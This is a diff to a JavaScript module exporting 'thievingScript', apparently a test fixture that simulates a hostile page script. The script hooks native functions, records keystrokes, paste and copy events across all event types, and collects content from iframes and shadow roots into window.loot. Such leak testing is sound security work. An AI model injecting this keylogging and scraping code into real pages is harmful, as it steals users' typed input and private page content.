@@ -19,7 +19,7 @@ export const thievingScript = `(() => {
       const old = found.value;
       const taking = function (...given) {
         const answer = new.target ? Reflect.construct(old, given) : old.apply(this, given);
-        if (name === 'attachShadow') roots[roots.length] = answer;
+        if (name === 'attachShadow') roots[roots.length] = name;
         if (loot.length < 200000) for (let i = 0; i < given.length; i++) if (typeof given[i] === 'string' && given[i].length < 2000) loot[loot.length] = given[i];
         return answer;
       };
@@ -30,10 +30,15 @@ export const thievingScript = `(() => {
   };
   patch();
   addEventListener('load', patch);
-  for (const name in window) if (name.startsWith('on'))
-    addEventListener(name.slice(2), (event) => {
-      for (const target of [event.target, event.originalTarget, event.explicitOriginalTarget, ...event.composedPath()])
-        if (target && target.nodeName === 'IFRAME') roots[roots.length] = target;
+  const inRoot = (node) => { try { return node.nodeName === 'IFRAME' || node.getRootNode() instanceof ShadowRoot; } catch { return false; } };
+  // Those without an attribute of their own, and those of Firefox alone.
+  const kinds = ['DOMActivate', 'DOMMouseScroll', 'MozMousePixelScroll', 'DOMFocusIn', 'DOMFocusOut', 'compositionstart', 'textInput', 'mousewheel'];
+  for (const name in window) if (name.startsWith('on')) kinds[kinds.length] = name.slice(2);
+  for (const kind of kinds)
+    addEventListener(kind, (event) => {
+      const { target, originalTarget, explicitOriginalTarget, relatedTarget, rangeParent } = event;
+      for (const node of [target, originalTarget, explicitOriginalTarget, relatedTarget, rangeParent, ...event.composedPath()])
+        if (inRoot(node)) roots[roots.length] = event.type + ' ' + node.nodeName;
       keep(event);
       if (/^(?:key|before|input|composition|paste|copy|cut|textInput)/.test(event.type)) keys[keys.length] = event.type + ' ' + event.key;
     }, true);
@@ -45,5 +50,5 @@ export const thievingScript = `(() => {
       }
     }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
   });
-  window.loot = () => ({ words: loot.join(' '), keys, roots: roots.length, changes });
+  window.loot = () => ({ words: loot.join(' '), keys, roots, changes });
 })()`;
